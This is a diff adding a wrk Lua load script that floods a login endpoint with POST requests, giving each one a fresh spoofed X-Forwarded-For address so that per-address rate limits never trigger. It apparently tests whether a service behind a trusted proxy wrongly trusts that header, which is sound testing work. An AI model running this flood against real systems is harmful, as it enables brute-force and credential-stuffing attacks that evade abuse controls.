@@ -1,0 +1,25 @@
+-- A login flood from many addresses behind a trusted proxy: every request
+-- names the next client address in X-Forwarded-For, so no per-address limit
+-- stops it and every address is new to the limiter. BODY is the login body.
+-- START (default 0) offsets the addresses, so repeated runs stay distinct.
+local counter = 0
+local thread_offset = 0
+local threads = 0
+
+function setup(thread)
+  thread:set("thread_offset", threads)
+  threads = threads + 1
+end
+
+wrk.method = "POST"
+wrk.body = os.getenv("BODY")
+wrk.headers["Content-Type"] = "application/json"
+local start = tonumber(os.getenv("START") or "0")
+
+request = function()
+  -- Threads interleave: thread t uses t, t + 16, t + 32, ...
+  local n = start + thread_offset + counter * 16
+  counter = counter + 1
+  local address = string.format("10.%d.%d.%d", 64 + math.floor(n / 65536) % 64, math.floor(n / 256) % 256, n % 256)
+  return wrk.format(nil, nil, { ["X-Forwarded-For"] = address })
+end
